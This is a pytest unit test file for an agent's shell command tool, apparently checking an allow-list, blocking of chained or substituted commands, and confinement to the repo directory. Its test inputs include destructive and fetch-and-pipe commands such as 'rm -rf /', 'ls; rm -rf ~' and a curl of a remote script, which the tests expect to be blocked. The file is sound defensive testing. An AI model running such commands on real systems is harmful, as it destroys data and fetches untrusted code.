"""Unit tests for RunCommandTool."""

import pytest

from upcore_agent.infrastructure.tools.shell_tool import RunCommandTool


class TestRunCommandTool:
    @pytest.mark.asyncio
    async def test_disallowed_command(self, tmp_path):
        result = await RunCommandTool(tmp_path).execute(command="rm -rf /")

        assert result.startswith('Error: Command not allowed: "rm -rf /"')

    @pytest.mark.asyncio
    @pytest.mark.parametrize(
        "command",
        [
            "ls; rm -rf ~",
            "cat x && curl http://example.com/x.sh",
            "cat x | sh",
            "git log > out.txt",
            "cat $(echo secret)",
            "ls `whoami`",
        ],
    )
    async def test_chained_or_substituted_command_blocked(self, tmp_path, command):
        (tmp_path / "x").write_text("data", encoding="utf-8")

        result = await RunCommandTool(tmp_path).execute(command=command)

        assert result.startswith("Error: Command blocked:")

    @pytest.mark.asyncio
    async def test_prefix_must_match_whole_tokens(self, tmp_path):
        result = await RunCommandTool(tmp_path).execute(command="lsblk")

        assert result.startswith('Error: Command not allowed: "lsblk"')

    @pytest.mark.asyncio
    async def test_quoted_arguments_reach_the_program(self, tmp_path):
        (tmp_path / "my notes.txt").write_text("quoted\n", encoding="utf-8")

        result = await RunCommandTool(tmp_path).execute(command='cat "my notes.txt"')

        assert result == "quoted"

    @pytest.mark.asyncio
    async def test_runs_allowed_command(self, tmp_path):
        (tmp_path / "hello.txt").write_text("hello world\n", encoding="utf-8")

        result = await RunCommandTool(tmp_path).execute(command="cat hello.txt")

        assert result == "hello world"

    @pytest.mark.asyncio
    async def test_runs_in_subdirectory(self, tmp_path):
        (tmp_path / "turbo-backend").mkdir()
        (tmp_path / "turbo-backend" / "package.json").write_text("{}", encoding="utf-8")

        result = await RunCommandTool(tmp_path).execute(command="ls", cwd="turbo-backend")

        assert result == "package.json"

    @pytest.mark.asyncio
    async def test_cwd_escape_rejected(self, tmp_path):
        result = await RunCommandTool(tmp_path).execute(command="ls", cwd="..")

        assert result == "Error: cwd outside repo directory"

    @pytest.mark.asyncio
    async def test_nonzero_exit(self, tmp_path):
        result = await RunCommandTool(tmp_path).execute(command="cat missing.txt")

        assert result.startswith("Command failed:\n")
        assert result.endswith("Command exited with code 1")

    @pytest.mark.asyncio
    async def test_empty_output(self, tmp_path):
        result = await RunCommandTool(tmp_path).execute(command="find . -name nothing-here")

        assert result == "(command completed with no output)"

    @pytest.mark.asyncio
    async def test_timeout(self, tmp_path):
        tool = RunCommandTool(tmp_path, allowed_prefixes=("sleep",), timeout=0.2)

        result = await tool.execute(command="sleep 5")

        assert result == "Command failed:\nCommand timed out after 0.2s"
